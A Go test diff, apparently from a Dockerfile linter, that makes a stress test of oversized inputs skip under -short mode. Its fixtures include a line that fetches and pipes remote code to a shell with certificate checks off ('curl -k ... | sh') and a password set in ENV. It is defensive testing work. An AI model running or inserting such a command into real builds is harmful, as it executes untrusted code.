@@ -97,6 +97,9 @@ func TestBroken(t *testing.T) {
 // TestHostile builds files that would cost time or memory without bounds: of 1 MB, as the
 // largest that is kept, or with as many instructions as are read.
 func TestHostile(t *testing.T) {
+	if testing.Short() {
+		t.Skip("-short: much data, which the race detector takes minutes for; the other pass of make test runs it")
+	}
 	const size = 1 << 20
 	for name, line := range map[string]string{
 		"copies": "COPY a b\n", "adds": "ADD a /b\n", "secrets": "ENV A_PASSWORD=b\n", "stages": "FROM a AS b\n", "chain": "FROM b AS b\nCOPY a .\n", "runs": "RUN curl -k http://x/a|sh\n", "users": "USER root\nCMD a\n",
